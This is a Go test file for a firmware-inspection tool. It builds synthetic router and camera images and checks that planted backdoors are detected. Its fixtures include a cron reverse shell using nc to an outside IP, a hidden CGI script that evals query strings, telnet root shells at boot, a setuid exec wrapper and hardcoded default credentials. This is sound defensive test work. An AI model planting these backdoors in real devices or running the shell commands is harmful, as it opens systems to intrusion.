package inspect_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"hash/crc32"
	"path/filepath"
	"syscall"
	"testing"

	"telltale/internal/firmware/inspect"
)

// Further cases in the vocabulary of the twelve: other chips, other init
// systems, other containers. What is expected was written before it was run.

// progOf is a program for another machine; big says its byte order.
func progOf(machine uint16, big bool, text string) string {
	b := []byte(prog(text)[5:])
	o := binary.ByteOrder(binary.LittleEndian)
	if big {
		b[5], o = 2, binary.BigEndian
	}
	for _, at := range []int{16, 18, 20} {
		b[at], b[at+1] = 0, 0
	}
	o.PutUint16(b[16:], 2)
	o.PutUint16(b[18:], machine)
	o.PutUint32(b[20:], 1)
	return "0755 " + string(b)
}

// moduleOf is a kernel module with one section of facts.
func moduleOf(info string) string {
	names := "\x00.modinfo\x00.shstrtab\x00"
	b := []byte(prog("")[5:])[:52]
	le.PutUint16(b[16:], 1)
	data := len(b)
	b = append(b, info...)
	str := len(b)
	b = append(b, names...)
	for len(b)%4 != 0 {
		b = append(b, 0)
	}
	le.PutUint32(b[32:], uint32(len(b)))
	le.PutUint16(b[46:], 40)
	le.PutUint16(b[48:], 3)
	le.PutUint16(b[50:], 2)
	b = append(b, make([]byte, 40)...)
	b = append(b, words(le, 1, 1, 0, 0, uint32(data), uint32(len(info)), 0, 0, 1, 0)...)
	return "0644 " + string(append(b, words(le, 10, 3, 0, 0, uint32(str), uint32(len(names)), 0, 0, 1, 0)...))
}

func makeTRX(parts ...[]byte) []byte {
	h := make([]byte, 28)
	copy(h, "HDR0")
	var body []byte
	for i, p := range parts {
		for (28+len(body))%4 != 0 {
			body = append(body, 0)
		}
		le.PutUint32(h[16+4*i:], uint32(28+len(body)))
		body = append(body, p...)
	}
	all := append(h, body...)
	le.PutUint32(all[4:], uint32(len(all)))
	le.PutUint16(all[14:], 1)
	le.PutUint32(all[8:], ^crc32.ChecksumIEEE(all[12:]))
	return all
}

// openwrt is a small router system as its builder makes it, harmless.
func openwrt() map[string]string {
	return map[string]string{
		"bin/busybox": prog("BusyBox v1.36.1 (2024-05-01 00:00:00 UTC) multi-call binary."), "bin/ash": "-> busybox", "bin/sh": "-> busybox", "sbin/procd": prog("procd"), "sbin/init": prog("init"),
		"usr/sbin/telnetd": "-> ../../bin/busybox", "usr/sbin/dropbear": prog("SSH-2.0-dropbear_2022.82"), "usr/sbin/uhttpd": prog("uhttpd"), "usr/sbin/dnsmasq": prog("dnsmasq-2.90"),
		"etc/inittab": "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n::askconsole:/usr/libexec/login.sh\n", "etc/passwd": "root:x:0:0:root:/root:/bin/ash\ndaemon:*:1:1:daemon:/var:/bin/false\nnobody:*:65534:65534:nobody:/var:/bin/false\n",
		"etc/shadow": "root:!:0:0:99999:7:::\ndaemon:*:0:0:99999:7:::\nnobody:*:0:0:99999:7:::\n", "etc/group": "root:x:0:\n",
		"etc/openwrt_release": "DISTRIB_ID='OpenWrt'\nDISTRIB_RELEASE='23.05.3'\nDISTRIB_TARGET='ramips/mt7621'\n",
		"etc/init.d/uhttpd":   "0755 #!/bin/sh /etc/rc.common\nSTART=50\nUSE_PROCD=1\nstart_service() {\n procd_open_instance\n procd_set_param command /usr/sbin/uhttpd -f -h /www -p 80\n procd_close_instance\n}\n", "etc/rc.d/S50uhttpd": "-> ../init.d/uhttpd",
		"etc/init.d/dnsmasq": "0755 #!/bin/sh /etc/rc.common\nSTART=19\nUSE_PROCD=1\nstart_service() {\n procd_open_instance\n procd_set_param command /usr/sbin/dnsmasq -k\n procd_close_instance\n}\n", "etc/rc.d/S19dnsmasq": "-> ../init.d/dnsmasq",
		"etc/config/system": "config system\n option hostname 'OpenWrt'\n", "etc/config/uhttpd": "config uhttpd 'main'\n list listen_http '0.0.0.0:80'\n", "etc/uci-defaults/10-x": "uci set network.lan.ipaddr=192.168.1.1\n",
		"www/index.html": "<html><body><a href=\"/cgi-bin/luci\">LuCI</a></body></html>\n", "www/cgi-bin/luci": "0755 #!/usr/bin/lua\nrequire \"luci.cacheloader\"\n",
		"usr/lib/opkg/status":            "Package: busybox\nVersion: 1.36.1-1\nStatus: install user installed\n\nPackage: dropbear\nVersion: 2022.82-6\nStatus: install user installed\n",
		"lib/modules/5.15.150/nf_nat.ko": prog("mod"), "lib/upgrade/platform.sh": "platform_check_image() {\n fit_check_sign -f \"$1\"\n}\n", "etc/opkg/keys/b5043e70f9a75cde": "untrusted comment: Public usign key\nRWS1BD5w+adc3j2Hqg9+b66CvLR7NlHbsj7wjNVj0XGt/othDgIAOJS+\n",
	}
}

func withProc(kv ...string) map[string]string { return with(openwrt(), kv...) }

func TestFurtherCases(t *testing.T) {
	key, auth := freshKey(t)
	mips := func(s string) string { return progOf(8, true, s) }
	sq := func(t *testing.T, files map[string]string, args string) []byte {
		return load(t, squash(t, files, args))
	}
	ext := func(t *testing.T, files map[string]string) []byte {
		need(t, "mke2fs")
		dir := tree(t, files)
		sh(t, filepath.Dir(dir), "mke2fs -q -t ext4 -d root raw 8M")
		return load(t, filepath.Join(filepath.Dir(dir), "raw"))
	}
	cram := func(t *testing.T, files map[string]string) []byte {
		need(t, "mkfs.cramfs")
		dir := tree(t, files)
		sh(t, filepath.Dir(dir), "mkfs.cramfs root raw")
		return load(t, filepath.Join(filepath.Dir(dir), "raw"))
	}
	for _, c := range []struct {
		name string
		img  func(*testing.T) []byte
		want []string
		not  []string // IDs that must not be above a note
	}{
		{"a router's stock system", func(t *testing.T) []byte {
			return makeTRX(makeUImage(2, "MIPS OpenWrt Linux-5.15.150", []byte("x")), sq(t, openwrt(), "-comp xz"))
		}, nil,
			[]string{"daemon.telnet-at-boot", "account.hardcoded", "account.empty-password", "web.hidden-endpoint", "key.private", "update.unsigned", "integrity.hash-mismatch"}},
		{"a big-endian router with a maintenance account", func(t *testing.T) []byte {
			return makeTRX(gz([]byte("\x00Linux version 2.6.36 (builder@host) (gcc 4.5) #1 Mon Jan 4 12:00:00 CST 2016\n")), sq(t, withProc("bin/busybox", mips("BusyBox v1.19.4 (2016-01-04) multi-call binary."),
				"etc/passwd", "admin:x:0:0:root:/root:/bin/ash\nmaint:absxcfbgXtb3o:0:0::/:/bin/ash\n", "etc/shadow", ""), "-comp gzip"))
		}, []string{"account.known-hash confirmed maint", "account.uid0-twin confirmed maint"}, nil},
		{"root without a password in the shadow file, telnet behind a settings bit", func(t *testing.T) []byte {
			return sq(t, withProc("etc/shadow", "root::0:0:99999:7:::\n", "etc/init.d/telnet", "0755 #!/bin/sh /etc/rc.common\nSTART=50\nstart() {\n [ \"$(nvram get telnet_enable)\" = \"1\" ] && telnetd -l /bin/login.sh\n}\n", "etc/rc.d/S50telnet", "-> ../init.d/telnet"), "-comp lzma")
		}, []string{"account.empty-password confirmed root", "daemon.telnet-at-boot suspicious telnet_enable"}, nil},
		{"telnet as first boot hook, unconditional, by a shell", func(t *testing.T) []byte {
			return ext(t, withProc("etc/rc.local", "telnetd -p 2323 -l /bin/ash &\nexit 0\n", "etc/init.d/done", "0755 #!/bin/sh /etc/rc.common\nSTART=95\nboot() {\n [ -f /etc/rc.local ] && sh /etc/rc.local\n}\n", "etc/rc.d/S95done", "-> ../init.d/done"))
		}, []string{"daemon.telnet-at-boot confirmed tcp/2323"}, nil},
		{"the maker's key in a place of its own, with its server", func(t *testing.T) []byte {
			return cram(t, withProc("mnt/factory/.ssh/authorized_keys", auth, "etc/init.d/ssh", "0755 #!/bin/sh /etc/rc.common\nSTART=50\nstart() {\n dropbear -p 22022\n}\n", "etc/rc.d/S50ssh", "-> ../init.d/ssh",
				"etc/passwd", "root:x:0:0:root:/root:/bin/ash\nfactory:x:1000:1000::/mnt/factory:/bin/ash\n"))
		}, []string{"key.authorized confirmed mnt/factory", "daemon.ssh-at-boot suspicious tcp/22022"}, nil},
		{"a private key that the web server uses", func(t *testing.T) []byte {
			return sq(t, withProc("etc/uhttpd.key", key, "etc/config/uhttpd", "config uhttpd 'main'\n option key '/etc/uhttpd.key'\n"), "-comp zstd")
		}, []string{"key.private probable etc/uhttpd.key"}, nil},
		{"a page nobody links to that runs what it is sent", func(t *testing.T) []byte {
			return sq(t, withProc("www/cgi-bin/.diag", "0755 #!/bin/sh\necho; eval \"$(echo $QUERY_STRING | sed 's/%20/ /g')\"\n"), "-comp xz")
		}, []string{"web.command-injection probable .diag", "web.hidden-endpoint suspicious .diag"}, nil},
		{"rights on a script and on a program", func(t *testing.T) []byte {
			dir := tree(t, withProc("usr/sbin/root.sh", "4755 #!/bin/sh\nexec \"$@\"\n", "usr/bin/helper", prog("h")))
			if err := syscall.Setxattr(filepath.Join(dir, "usr/bin/helper"), "security.capability", []byte("\x01\x00\x00\x02\x80\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"), 0); err != nil {
				t.Skipf("capabilities cannot be set here: %v", err)
			}
			return packSquash(t, dir, "-comp gzip")
		}, []string{"exec.setuid suspicious root.sh", "exec.capability suspicious setuid"}, nil},
		{"communities anybody knows, for writing", func(t *testing.T) []byte {
			return sq(t, withProc("etc/snmp/snmpd.conf", "rwcommunity private\nrocommunity public\n", "usr/sbin/snmpd", prog("s")), "-comp gzip")
		}, []string{"remote.snmp-default suspicious private"}, nil},
		{"management server with a default word", func(t *testing.T) []byte {
			return sq(t, withProc("etc/hw_default_ctree.xml", `<InternetGatewayDevice><ManagementServer URL="http://acs.example.invalid/acs" Username="cpe" Password="cpe" ConnectionRequestUsername="itms" ConnectionRequestPassword="itms" PeriodicInformInterval="43200"/><X_HW_WebUserInfo><X_HW_WebUserInfoInstance InstanceID="1" UserName="telecomadmin" Password="admintelecom" UserLevel="0"/></X_HW_WebUserInfo></InternetGatewayDevice>`), "-comp gzip")
		}, []string{"remote.tr069-default suspicious itms", "account.hardcoded probable telecomadmin", "maker.platform probable huawei"}, nil},
		{"an update script that takes what it gets", func(t *testing.T) []byte {
			return sq(t, withProc("etc/init.d/ota", "0755 #!/bin/sh /etc/rc.common\nSTART=99\nstart() {\n wget -q -O /tmp/fw.bin http://ota.example.invalid/fw.bin && sysupgrade -n /tmp/fw.bin\n}\n", "etc/rc.d/S99ota", "-> ../init.d/ota", "sbin/sysupgrade", "0755 #!/bin/sh\n:\n"), "-comp gzip")
		}, []string{"update.unsigned probable ota.example.invalid"}, nil},
		{"a boot loader before eight MiB of noise", func(t *testing.T) []byte {
			b := bytes.Repeat([]byte{0xff}, 1<<20)
			copy(b, "\x00\x00\x00\xeaU-Boot 2016.01 (Jan 02 2019 - 10:00:00 +0800)\x00code")
			return append(b, noise(77, 8<<20)...)
		}, []string{"state.encrypted note"}, nil},
		{"a system cut in the middle", func(t *testing.T) []byte {
			b := sq(t, withProc("etc/shadow", "root::0:0:99999:7:::\n", "usr/blob", string(noise(5, 1<<20))), "-comp xz")
			return b[:len(b)/2]
		}, []string{"state.truncated note"}, nil},
		{"a recorder package of the platform maker under another name", func(t *testing.T) []byte {
			return makeZip(false, []string{"InstallDesc", "user-x.cramfs.img"}, map[string][]byte{"InstallDesc": []byte("{\n \"UpgradeCommand\" : [ { \"Command\" : \"Burn\", \"FileName\" : \"user-x.cramfs.img\" } ],\n \"Hardware\" : \"XX1\",\n \"DevID\" : \"00000001\",\n \"CompatibleVersion\" : 2,\n \"Vendor\" : \"Acme Guard\"\n}\n"), "user-x.cramfs.img": makeUImage(7, "user", sq(t, base(), "-comp xz"))})
		}, []string{"maker.platform probable xiongmai", "maker.brand probable Acme Guard", "maker.conflict suspicious Acme Guard"}, nil},
		{"two makers' services in one program", func(t *testing.T) []byte {
			return sq(t, withProc("usr/bin/app", prog("https://open.ys7.com/api\x00dev.hik-connect.com\x00/usr/bin/sonia\x00www.dahuasecurity.com\x00")), "-comp gzip")
		}, []string{"maker.platform probable hikvision", "maker.platform probable dahua", "maker.conflict suspicious"}, nil},
		{"an upstart of its own: init is a script", func(t *testing.T) []byte {
			return gz(cpioTree(with(base(), "etc/inittab", "", "init", "0755 #!/bin/sh\n. /etc/conf\nstart_all\nexec /bin/app\n", "etc/conf", "start_all() {\n  for d in telnetd ftpd; do /bin/busybox $d & done\n}\n", "bin/app", prog("a"))))
		}, []string{"daemon.telnet-at-boot confirmed telnetd"}, nil},
		{"debug bridge over the network, by the init language", func(t *testing.T) []byte {
			return ext(t, map[string]string{"system/bin/adbd": prog("adbd"), "system/bin/sh": prog("mksh"), "init.rc": "on boot\n    setprop service.adb.tcp.port 5555\n    start adbd\n\nservice adbd /system/bin/adbd\n    class core\n    disabled\n", "system/build.prop": "ro.adb.secure=0\nro.debuggable=1\nro.product.brand=Acme\n"})
		}, []string{"daemon.adb-at-boot confirmed 5555"}, nil},
		{"a shell that calls home from the timetable", func(t *testing.T) []byte {
			return sq(t, withProc("etc/crontabs/root", "*/5 * * * * /usr/bin/nc 198.51.100.7 4444 -e /bin/sh\n", "usr/bin/nc", prog("nc"), "usr/sbin/crond", "-> ../../bin/busybox", "etc/init.d/cron", "0755 #!/bin/sh /etc/rc.common\nSTART=50\nstart() {\n crond -c /etc/crontabs\n}\n", "etc/rc.d/S50cron", "-> ../init.d/cron"), "-comp xz")
		}, []string{"daemon.debug-at-boot confirmed 198.51.100.7"}, nil},
		{"community and management server in settings of their own", func(t *testing.T) []byte {
			return sq(t, withProc("etc/config/snmpd", "config community\n option community 'private'\n option mode 'rw'\nconfig rwcommunity\n option rwcommunity 'private'\n", "etc/defaults/nvram.conf", "tr069_acs_url=http://acs.example.invalid\ntr069_conn_req_username=admin\ntr069_conn_req_password=admin\n"), "-comp xz")
		}, []string{"remote.snmp-default suspicious private", "remote.tr069-default suspicious admin"}, nil},
		{"a program that starts telnet itself", func(t *testing.T) []byte {
			return sq(t, withProc("usr/bin/appd", prog("/usr/sbin/telnetd -l /bin/sh -p 9527 &\x00"), "etc/init.d/app", "0755 #!/bin/sh /etc/rc.common\nSTART=50\nstart() {\n /usr/bin/appd\n}\n", "etc/rc.d/S50app", "-> ../init.d/app"), "-comp xz")
		}, []string{"daemon.telnet-at-boot suspicious appd"}, nil},
		{"a kernel image cut short", func(t *testing.T) []byte {
			b := makeUImage(2, "Linux", bytes.Repeat([]byte("code and data "), 20_000))
			return b[:len(b)/2]
		}, []string{"state.truncated note"}, nil},
		{"a maker's system under a label of another's", func(t *testing.T) []byte {
			return sq(t, withProc("usr/bin/sonia", prog("/usr/bin/sonia\x00easy4ip\x00"), "etc/oem/oem.conf", "Brand=Acme Guard\nModel=AG-100\n"), "-comp xz")
		}, []string{"maker.platform probable dahua", "maker.brand probable Acme Guard", "maker.conflict suspicious Acme Guard"}, nil},
		{"a locked second root and a service's empty field", func(t *testing.T) []byte {
			return sq(t, withProc("etc/passwd", "root:x:0:0:root:/root:/bin/ash\ntoor:x:0:0::/:/sbin/nologin\nftp:x:55:55::/:/bin/false\n", "etc/shadow", "root:!:0:0:99999:7:::\ntoor:!:0:0:::::\nftp::0:0:::::\n"), "-comp xz")
		}, nil, []string{"account.uid0-twin", "account.empty-password"}},
		{"an account table in a place of its own", func(t *testing.T) []byte {
			return cram(t, withProc("mnt/mtd/Config/passwd", "root:$1$RYIwEiRA$d5iRRVQ5ZeRTrJwGjRy.B0:0:0:root:/:/bin/sh\n"))
		}, []string{"account.known-hash confirmed mnt/mtd"}, nil},
		{"a list of another folder's files", func(t *testing.T) []byte {
			return makeTar(tarEntry{"control", "", '0', "Package: x\n"}, tarEntry{"md5sums", "", '0', "0123456789abcdef0123456789abcdef  usr/share/x/control\n"})
		}, nil, []string{"integrity.unsigned", "integrity.hash-mismatch"}},
		{"a signed package that holds", func(t *testing.T) []byte {
			return makeTar(tarEntry{"fw/kernel.img", "", '0', "kernel\n"}, tarEntry{"fw/SHA256SUMS", "", '0', sumOf("kernel\n") + "  kernel.img\n"}, tarEntry{"fw/SHA256SUMS.sig", "", '0', string(noise(8, 64))})
		}, nil, []string{"integrity.unsigned", "integrity.hash-mismatch"}},
		{"modules of another kernel", func(t *testing.T) []byte {
			m := withProc()
			for i, magic := range []string{"5.15.150 SMP mod_unload", "5.15.150 SMP mod_unload", "5.15.150 SMP mod_unload", "3.4.35 mod_unload ARMv7"} {
				m["lib/modules/5.15.150/m"+string(rune('a'+i))+".ko"] = moduleOf("name=m" + string(rune('a'+i)) + "\x00license=GPL\x00vermagic=" + magic + "\x00")
			}
			return sq(t, m, "-comp xz")
		}, []string{"module.unknown suspicious md.ko"}, nil},
		{"a relay's library and its identifier", func(t *testing.T) []byte {
			return sq(t, withProc("usr/bin/ipc", prog("IOTC_Device_Login\x00ABCD-123456-EFGHI\x00m1.iotcplatform.com")), "-comp gzip")
		}, []string{"remote.relay suspicious ABCD-123456-EFGHI", "host.undocumented note ThroughTek"}, nil},
		{"a package whose sums do not hold", func(t *testing.T) []byte {
			return makeTar(tarEntry{"fw/rootfs.img", "", '0', "changed content of the root\n"}, tarEntry{"fw/kernel.img", "", '0', "kernel\n"},
				tarEntry{"fw/SHA256SUMS", "", '0', sumOf("kernel\n") + "  kernel.img\n" + sumOf("content of the root\n") + "  rootfs.img\n"})
		}, []string{"integrity.hash-mismatch confirmed rootfs.img"}, nil},
		{"a package whose sums hold", func(t *testing.T) []byte {
			return makeTar(tarEntry{"fw/kernel.img", "", '0', "kernel\n"}, tarEntry{"fw/SHA256SUMS", "", '0', sumOf("kernel\n") + "  kernel.img\n"})
		}, nil, []string{"integrity.hash-mismatch"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			need(t, "mksquashfs")
			r := bounded(t, c.img(t))
			check(t, r, c.want...)
			for _, x := range r.Findings {
				for _, id := range c.not {
					if x.ID == id && x.Level != inspect.Note {
						t.Errorf("%s %s: %s [%s]", x.Level, x.ID, x.Title, x.Evidence)
					}
				}
			}
		})
	}
}

func sumOf(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}
